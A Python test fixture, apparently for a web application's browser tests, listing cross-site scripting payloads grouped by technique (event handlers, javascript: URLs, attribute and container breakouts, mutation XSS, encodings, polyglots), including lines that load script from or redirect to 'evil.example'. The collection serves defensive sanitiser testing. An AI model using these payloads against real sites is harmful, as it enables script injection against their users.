"""The XSS corpus that tests/browser/test_xss_corpus.py sends through every door into every
field readers see. Each payload, if it ever ran, would call ``alert`` (a dialog), set
``window.__xss`` or log a console error: all three are watched for in Chromium.

At most ``MAX_LENGTH`` characters each, so every one fits the shortest field it goes into
(a section's name, 100, with the suffix that keeps names unique).
"""

MAX_LENGTH = 92

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\t>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<script\x00>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    '<script src="//evil.example/x.js"></script>',
    "<<script>alert(1)//<</script>",
    "<script>alert(1)</script",
    "<script>console.error('xss')</script>",
    '<script type="module">window.__xss=1</script>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "</SCRIPT/x><img src=x onerror=alert(1)>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    '<img src=x onerror="window.__xss=1">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    '<img src="x" onerror="console.error(\'xss\')">',
    "<img src=x:x onerror=alert&lpar;1&rpar;>",
    "<img src=x onerror=&#97;lert(1)>",
    '<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;(1)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><g onload=alert(1)></g></svg>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<iframe onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<details/open/ontoggle=window.__xss=1>",
    "<video src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "<b onclick=alert(1)>click</b>",
    "<h2 onclick=alert(1)>x</h2>",
    "<a href=# onclick=alert(1)>x</a>",
    '<a href="https://ok.example/" onmouseover=alert(1)>x</a>',
    "<div onanimationstart=alert(1) style=animation-name:x>",
    "<object data=x onerror=alert(1)>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<blockquote onfocusin=alert(1) tabindex=1 autofocus>x",
]

URLS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>',
    '<a href="&#0000106avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<img src="javascript:alert(1)">',
    "<iframe src=javascript:alert(1)>",
    '<iframe src="data:text/html,<script>alert(1)</script>">',
    '<embed src="javascript:alert(1)">',
    '<object data="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) `",
    'x" style="background:url(javascript:alert(1))',
    '"/><svg onload=alert(1)>',
    "\"'><script>alert(1)</script>",
    '"><meta http-equiv=refresh content="0;url=javascript:alert(1)">',
]

STYLES_META_BASE = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    '<style>@import "javascript:alert(1)";</style>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="behavior:url(#default#time2)">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
    '<base href="javascript:alert(1)//">',
    '<base href="https://evil.example/">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
]

CONTAINER_BREAKOUTS = [
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<template><img src=x onerror=alert(1)></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<xmp><img title="</xmp><img src=x onerror=alert(1)>">',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>">',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<plaintext><img src=x onerror=alert(1)>",
]

MUTATION_XSS = [
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)>">]]></svg>',
    '<math><mi><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror=alert(1)>',
    "<svg><desc><template><img src=x onerror=alert(1)></template></desc></svg>",
    "<table><caption><svg><p><img src=x onerror=alert(1)>",
    '<a href="https://ok.example/"><a href="javascript:alert(1)">x</a></a>',
    "<h2><a href=https://ok.example/><h3></a><a href=javascript:alert(1)>x</a></h3>",
]

SVG_IFRAME_OBJECT = [
    "<svg><set attributeName=onload to=alert(1) />",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a>",
    "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=9>x</text></a></svg>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    '<object data="data:text/html,<script>alert(1)</script>">',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=alert(1)>">',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">',
]

ENTITIES_AND_UNICODE = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028\u2029</script><script>alert(1)</script>",
    "<img src=x onerror=\\u0061lert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<\u0000script>alert(1)</script>",
]

JSON_LD_AND_POLYGLOTS = [
    "</script><script>alert(1)</script>",
    '"}</script><script>alert(1)</script>',
    "<!--<script>alert(1)//",
    '</script><img src=x onerror=alert(1)>{"a":"',
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//",
    "\"'--></style></script><svg onload=alert(1)>",
    '-->\'"/></sCript><deTailS open x=">" ontoGgle=alert(1)>',
    '\'"><svg/onload=alert(1)>//"><img src=x onerror=alert(1)>',
    "'\";alert(1);//",
    "{{7*7}}${7*7}{% debug %}<%= 7*7 %>",
]

PAYLOADS: list[str] = [
    *SCRIPT_TAGS,
    *EVENT_HANDLERS,
    *URLS,
    *ATTRIBUTE_BREAKOUTS,
    *STYLES_META_BASE,
    *CONTAINER_BREAKOUTS,
    *MUTATION_XSS,
    *SVG_IFRAME_OBJECT,
    *ENTITIES_AND_UNICODE,
    *JSON_LD_AND_POLYGLOTS,
]
